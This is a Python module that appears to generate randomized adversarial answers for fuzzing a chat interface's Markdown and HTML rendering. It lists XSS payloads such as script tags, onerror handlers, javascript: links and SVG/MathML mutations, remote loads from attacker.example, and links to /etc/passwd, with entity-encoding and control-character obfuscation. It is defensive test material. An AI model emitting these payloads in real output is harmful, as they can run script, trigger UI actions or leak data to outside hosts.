"""Answers that try to be more than words, composed at random of what parsers of Markdown and HTML trip over."""

from __future__ import annotations

from collections.abc import Callable, Sequence
from random import Random

ELSEWHERE = "http://attacker.example"
LINE_ENDS = ("\n", "\r", "\r\n", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029", "\n\n", "\r\r")
CONTROLS = (
    "\x00",
    "\x01",
    "\x07",
    "\x08",
    "\x1b[31m",
    "\x7f",
    "\x9b",
    "\u00ad",
    "\u200b",
    "\u200e",
    "\u200f",
    "\u202a",
    "\u202e",
    "\u2066",
    "\u2069",
    "\ufeff",
    "\ufffe",
    "\ue000",
    "\U000e0001",
)
MARKUP = (
    "<script>window.hacked = 1</script>",
    '<img src=x onerror="window.hacked = 1">',
    f"<img src={ELSEWHERE}/a.png>",
    f"![a]({ELSEWHERE}/b.png)",
    f"<iframe src={ELSEWHERE}></iframe>",
    "<iframe srcdoc='<script>parent.hacked = 1</script>'></iframe>",
    f"<form action={ELSEWHERE}><input name=a><button>Show more</button></form>",
    "<form id=bridge-chat><textarea name=attributes></textarea></form>",
    "<b data-act='delete' data-conversation='1'>Show more</b>",
    '<button type="button" class="tool" data-act="delete" data-conversation="1">Show more</button>',
    "<i data-fold=side data-press=retrain data-theme-switch data-to=page>Show more</i>",
    "<i data-key='guessed' data-act=reload class=key-a id=conversation data-shown=7>a</i>",
    "<div class='turn answer' data-turn=0 data-raw='other words'>",
    "<div class='encoded-html' title='guessed.PGI+eDwvYj4='></div>",
    "<svg onload='window.hacked = 1'><foreignObject><form></form></foreignObject></svg>",
    "<svg><a xlink:href='javascript:window.hacked=1'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1></style></mglyph></table></mtext></math>",
    f"<style>@import url({ELSEWHERE}/c.css); * {{ background: url({ELSEWHERE}/d.png) }}</style>",
    f"<link rel=stylesheet href={ELSEWHERE}/e.css><base href={ELSEWHERE}/>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    "<details open ontoggle=window.hacked=1><summary>x</summary></details>",
    f"<object data={ELSEWHERE}></object><embed src={ELSEWHERE}>",
    f"<video src={ELSEWHERE}/f onerror=window.hacked=1></video>",
    "</div></div></div><div id=transcript class=html>",
    "</code></pre></p></td></table></textarea></title><!--",
    "--> ]]> <![CDATA[ <!-- <? %> <%",
    "<p style='position:fixed;inset:0;background:red'>",
    "<a name=body id=body href='javascript:window.hacked=1'>x</a>",
    '" onmouseover="window.hacked=1" x="',
    "' autofocus onfocus='window.hacked=1' x='",
)
DIAGRAMS = (
    "```mermaid\ngraph TD\nA[\"<b data-act='delete' data-conversation='1'>Show more</b>\"]\n```",
    '```mermaid\ngraph TD\nA-->B\nclick A href "javascript:window.hacked=1"\nclick B call alert()\n```',
    "~~~mermaid\nsequenceDiagram\nA->>B: <img src=x onerror=window.hacked=1>\n~~~",
    "<div class='mermaid'>graph TD\nA-->B</div>",
    "<pre class=mermaid>graph LR; A[<form>]</pre>",
)
FORMULAS = (
    "$$\\href{javascript:window.hacked=1}{x}$$",
    "\\[ \\htmlData{act=delete,conversation=1}{x} \\]",
    "$\\includegraphics{" + ELSEWHERE + "/g.png}$",
    "\\begin{equation}\\url{javascript:window.hacked=1}\\end{equation}",
    "%%%LATEX_BLOCK_0%%%",
)
LINKS = (
    "[more](javascript:window.hacked=1)",
    "[more](JaVaScRiPt&colon;window.hacked=1)",
    "[more](java\tscript:window.hacked=1)",
    "[more](&#1;javascript:window.hacked=1)",
    "[more](data:text/html,<script>window.hacked=1</script>)",
    "[more](vbscript:x) [more](file:///etc/passwd) [more](blob:x) [more](mailto:a@b.example)",
    "[more](/gradio_api/file=/etc/passwd) [more](//attacker.example) [more](#conversation) [more](?c=1)",
    f'[more]({ELSEWHERE}/ "a\\" onmouseover=window.hacked=1 x=\\"")',
    f"[more](<{ELSEWHERE}/a b> 'title')",
    f'<{ELSEWHERE}/"onclick=window.hacked=1> <javascript:window.hacked=1> <a@b.example>',
    f"[a][b]\n\n[b]: javascript:window.hacked=1\n[a]: {ELSEWHERE} '<b data-act=delete>'",
    f"{ELSEWHERE}/bare www.attacker.example a@b.example",
    f"[![x]({ELSEWHERE}/h.png)](javascript:window.hacked=1)",
    "[x[y](javascript:1)](javascript:2) [](javascript:3) [<b data-act=new>](https://ok.example)",
    "A note[^1] and [1] and [2].\n\n[^1]: <b data-act='delete'>of it</b>",
)
BLOCKS = (
    "| a | b |\n|---|:-:|\n| <b data-act='new'>x</b> | `|` |",
    "````\n```mermaid\ngraph TD\n```\n````",
    "```html onclick=window.hacked=1 mermaid\n</code></pre><b data-act='delete'>x</b>\n```",
    "```&#13;mermaid\ngraph TD\n```",
    "> > > 1. - * <b data-act='new'>x</b>\n> ```\n</pre>",
    "    <b data-act='new'>indented</b>",
    "# <b data-act='new'>heading</b>\n===\n***\n---",
    "- [ ] <input type=checkbox checked>\n- [x] y",
    "`` ` <b data-act='new'> ` ``",
    "**bold *and _all ~~of~~ it_***",
    "> " * 60 + "deep",
    "[" * 80 + "x" + "](javascript:1)" * 80,
)
PIECES: tuple[Sequence[str], ...] = (MARKUP, MARKUP, DIAGRAMS, FORMULAS, LINKS, BLOCKS)
NAMED = {
    "\n": "&NewLine;",
    "\t": "&Tab;",
    "<": "&lt;",
    ">": "&gt;",
    "&": "&amp;",
    '"': "&quot;",
    ":": "&colon;",
    "(": "&lpar;",
    "[": "&lbrack;",
    "`": "&grave;",
    "$": "&dollar;",
    "#": "&num;",
    "\\": "&bsol;",
}


def answer(rng: Random) -> str:
    """One, of some hundred to some thousand characters."""
    parts: list[str] = []
    for _ in range(rng.randint(2, 6)):
        piece = rng.choice(rng.choice(PIECES))
        parts.append(rng.choice(DISGUISES)(piece, rng))
        parts.append(rng.choice(SEPARATORS)(rng))
    return "".join(parts)


def answers(count: int, seed: int) -> list[str]:
    rng = Random(seed)
    return [answer(rng) for _ in range(count)]


def reference(char: str, rng: Random) -> str:
    """A character as HTML may also write it: by number, by name, without the semicolon, encoded twice."""
    ways = (
        f"&#{ord(char)};",
        f"&#x{ord(char):X};",
        f"&#X{ord(char):06x};",
        f"&#{ord(char)}",
        f"&amp;#{ord(char)};",
        NAMED.get(char, f"&#{ord(char)};"),
    )
    return rng.choice(ways)


def _as_it_is(piece: str, rng: Random) -> str:
    return piece


def _all_encoded(piece: str, rng: Random) -> str:
    return "".join(char if char.isalnum() else f"&#{ord(char)};" for char in piece)


def _partly_encoded(piece: str, rng: Random) -> str:
    return "".join(char if char.isalnum() or rng.random() < 0.6 else reference(char, rng) for char in piece)


def _other_line_ends(piece: str, rng: Random) -> str:
    return piece.replace("\n", rng.choice(LINE_ENDS))


def _line_ends_encoded(piece: str, rng: Random) -> str:
    end = rng.choice(("\r", "\n", "\x0b", "\x0c", "\x85", "\u2028", "\r\n"))
    return piece.replace("\n", "".join(reference(char, rng) for char in end))


def _with_controls(piece: str, rng: Random) -> str:
    at = rng.randrange(len(piece) + 1)
    return piece[:at] + rng.choice(CONTROLS) + piece[at:]


def _cut(piece: str, rng: Random) -> str:
    return piece[: rng.randrange(1, len(piece) + 1)]


def _quoted(piece: str, rng: Random) -> str:
    mark = rng.choice(("> ", "    ", "- ", "1. ", "\t", "# ", "| "))
    return "\n".join(mark + line for line in piece.split("\n"))


def _fenced(piece: str, rng: Random) -> str:
    fence = rng.choice(("```", "~~~", "`````", "``` mermaid", "```mermaid"))
    return f"{fence}\n{piece}\n{fence[:3]}"


def _long(piece: str, rng: Random) -> str:
    return piece * rng.randint(2, 12)


DISGUISES: tuple[Callable[[str, Random], str], ...] = (
    _as_it_is,
    _all_encoded,
    _partly_encoded,
    _other_line_ends,
    _line_ends_encoded,
    _with_controls,
    _cut,
    _quoted,
    _fenced,
    _long,
    lambda piece, rng: _all_encoded(_other_line_ends(piece, rng), rng),
    lambda piece, rng: _quoted(_partly_encoded(piece, rng), rng),
)
SEPARATORS: tuple[Callable[[Random], str], ...] = (
    lambda rng: rng.choice(LINE_ENDS),
    lambda rng: rng.choice(LINE_ENDS) * 2,
    lambda rng: "".join(reference(char, rng) for char in rng.choice(LINE_ENDS) * 2),
    lambda rng: "&#13;&#13;",
    lambda rng: rng.choice(CONTROLS),
    lambda rng: " words between ",
    lambda rng: "",
)
